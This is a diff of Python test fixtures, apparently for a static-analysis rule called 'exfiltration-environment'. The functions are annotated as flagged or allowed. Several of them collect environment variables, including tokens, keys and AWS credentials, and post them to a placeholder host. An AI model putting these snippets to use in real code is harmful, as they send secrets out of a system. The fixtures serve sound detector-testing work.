@@ -82,3 +82,53 @@ def own_prefix():
     taken = {k: v for k, v in os.environ.items() if k.startswith("ACME_")}
     # ok: exfiltration-environment
     requests.post("https://a.invalid/p", json=taken)
+
+
+def of_courses():
+    found = {}
+    for key, value in os.environ.items():
+        if key.startswith("S") and key.endswith("_COURSE_ID") and value:
+            found[key[: -len("_COURSE_ID")]] = value
+    # ok: exfiltration-environment
+    requests.get("https://a.invalid/p", params=found)
+
+
+def of_others(end):
+    found = {}
+    for key, value in os.environ.items():
+        if key.endswith("_TOKEN") or key.endswith("_KEY") or key.startswith("AWS_"):
+            found[key] = value
+    # ruleid: exfiltration-environment
+    requests.post("https://a.invalid/p", json=found)
+    # ruleid: exfiltration-environment
+    requests.post("https://a.invalid/p", json=[value for key, value in os.environ.items() if key.endswith("_KEY")])
+
+
+def of_an_end_that_nobody_knows(end):
+    for key, value in os.environ.items():
+        if key.endswith(end):
+            # ruleid: exfiltration-environment
+            requests.post("https://a.invalid/p", data=value)
+
+
+def of_any_beside_its_own():
+    for key, value in os.environ.items():
+        if key.endswith("_COURSE_ID") or value:
+            # ruleid: exfiltration-environment
+            requests.post("https://a.invalid/p", data=value)
+
+
+def of_all_but_its_own():
+    for key, value in os.environ.items():
+        if key.endswith("_COURSE_ID"):
+            continue
+        # ruleid: exfiltration-environment
+        requests.post("https://a.invalid/p", data=value)
+
+
+def of_none_but_its_own():
+    for key, value in os.environ.items():
+        if not key.endswith("_COURSE_ID"):
+            continue
+        # ok: exfiltration-environment
+        requests.post("https://a.invalid/p", data=value)
